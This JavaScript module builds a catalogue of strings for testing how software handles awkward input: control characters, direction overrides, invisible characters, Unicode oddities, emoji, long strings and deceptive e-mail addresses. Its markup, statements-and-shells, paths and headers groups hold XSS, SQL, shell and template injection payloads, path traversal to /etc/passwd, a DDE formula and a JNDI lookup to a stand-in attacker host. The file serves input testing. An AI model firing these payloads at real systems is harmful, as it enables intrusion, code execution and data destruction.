// Strings that break software, by class: made here, from the rules of Unicode, of encodings and of
// the languages that such strings are written in.

const from = (...codes) => String.fromCodePoint(...codes);
const repeat = (text, times) => Array(times + 1).join(text);
const range = (first, last) => Array.from({ length: last - first + 1 }, (_, n) => from(first + n)).join('');

export const classes = {
  'control characters': [
    `A${range(1, 8)}B`, `A${from(0)}B`, `A${range(0x0e, 0x1f)}B`, `A${from(0x7f)}B`, `A${range(0x80, 0x9f)}B`,
    `A${from(0x1b)}[31mB${from(0x1b)}[0m`, `A${from(8)}${from(8)}B`,
  ],
  'line ends and white space': [
    'A\nB', 'A\r\nB', 'A\rB', 'A\tB', `A${from(0x85)}B`, `A${from(0x2028)}B${from(0x2029)}C`, `A${range(0x2000, 0x200a)}B`,
    `A${from(0xa0)}B`, `A${from(0x3000)}B`, `${from(0x3000)} A ${from(0xa0)}`, 'A\n\n\n\n\nB', `A${from(0x0b)}B${from(0x0c)}C`,
  ],
  'overrides of direction': [
    `A${from(0x202e)}txt.exe`, `${range(0x202a, 0x202e)}A`, `A${range(0x2066, 0x2069)}B`, `${from(0x202e)} Ana ${from(0x202c)}`,
    `A${from(0x200e)}B${from(0x200f)}`, 'שלום Ana مرحبا',
  ],
  'nothing to see': [
    from(0x200b), from(0x200b, 0x2060, 0xfeff), from(0xfeff), `${from(0xfeff)}A`, from(0x3164), from(0xad), from(0x200d), from(0xfe0f),
    `A${from(0x200b)}B`, `A${from(0x2060)}B`, `${from(0)} ${from(0)}`, ' ', '\t\n',
  ],
  'joined, composed and decomposed': [
    'Zoe\u0308', 'Zoë', 'A\u030a', from(0x212b), '\u1100\u1161\u11a8', 'q\u0323\u0307', 'q\u0307\u0323', 'ﬁ', '①', 'ſ', 'İi', 'ẞß',
    `A${repeat('\u0301', 40)}`, `Z${repeat('\u0336\u034f\u0489', 10)}`,
  ],
  emoji: ['👩‍⚕️', '👨‍👩‍👧‍👦', '🏳️‍🌈', '🇺🇸🇲🇽', '1️⃣', '🦷😀', '👍🏽', repeat('😀', 60), from(0x1f468, 0x200d)],
  'scripts of the world': ['Ωμέγα', 'Ирина', '佐藤 花子', '김민지', 'สมชาย', 'אברהם', 'عبد الله', 'प्रिया', '𝕬𝖓𝖆', 'ℌ𝔞𝔫𝔰', '𠜎𠜱', 'Nguyễn', 'O’Hara-Núñez'],
  'code points at the edges': [
    from(0xfffd), from(0xfffe), from(0xffff), from(0x10ffff), from(0xe000), from(0xfdd0), from(0x1fffe), from(0xe0001, 0xe0041),
  ],
  markup: [
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '<!-- --><![CDATA[x]]>', '&lt;b&gt;&amp;&#x27;', '</textarea></form>',
    '<svg/onload=alert(1)>', 'javascript:alert(1)', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '`id`', '<a href="//evil.example">',
  ],
  'statements and shells': [
    "'; DROP TABLE inquiry;--", "' OR '1'='1", '1); DELETE FROM event; --', '" OR ""="', "\\'; SELECT 1", '$(reboot)', '; cat /etc/passwd', '| ls', '&& true', '%0a%0dX: y',
    "Robert'); --", '?1 :name @x', 'NULL', 'null', 'undefined', 'NaN', 'true', '-1', '1e309', '0x0', '[]', '{}', '{"$gt": ""}', '__proto__', 'constructor',
  ],
  'formats and paths': [
    '%s%s%n%d', '%p%x%x', '{0}', '{}', '{name}', '%%', '%', '%2', '%zz', '%00', '%2e%2e%2f', '../../../../etc/passwd', '..\\..\\x', 'C:\\x', 'CON', 'file:///etc/hosts',
    '\\u0041', '\\x41', '\\n', '\\', '+', '=', '&', '&&a=b', 'a;b', '#', '?', '=SUM(A1)', "=cmd|'/c calc'!A0", '@SUM(1)',
  ],
  'headers and logs': ['A\r\nSet-Cookie: a=b', 'A\nHTTP/1.1 200 OK', '${jndi:ldap://evil.example/a}', 'Bcc: x@example.com'],
  'long': [repeat('a', 127), repeat('a', 128), repeat('a', 129), repeat('ñ', 128), repeat('😀', 129), repeat('a ', 999), repeat('x', 2000), repeat('x', 2001), repeat('é', 8000), repeat('word ', 5000)],
  'e-mail addresses that are not what they seem': [
    'ana@example.com\u202e', 'аna@example.com', 'ana@exаmple.com', 'ana@xn--exmple-cua.com', 'a b@example.com', 'ana@example', '@example.com', 'ana@@example.com',
    'ana@example.com, b@example.com', 'Ana <ana@example.com>', 'ana+tag@example.com', '"ana"@example.com', 'ana@[127.0.0.1]', 'ana@example..com', 'ana@例え.example',
  ],
  'phone numbers of all kinds': [
    '555 555 0123', '+1 (555) 555-0123 ext. 4', '٥٥٥٥٥٥٠١٢٣', '５５５５５５０１２３', '555-CALL-NOW', '0000000', '123456', repeat('5', 61), '☎ 555-555-0123', '+', 'tel:5555550123',
  ],
};

/** Bytes that are no UTF-8, for a value of a form or of JSON. */
export const broken = [[0xff], [0xc3], [0xc3, 0x28], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xc0, 0xaf], [0xf5, 0x80, 0x80, 0x80], [0x4e, 0xfa, 0xf1, 0x65, 0x7a]];
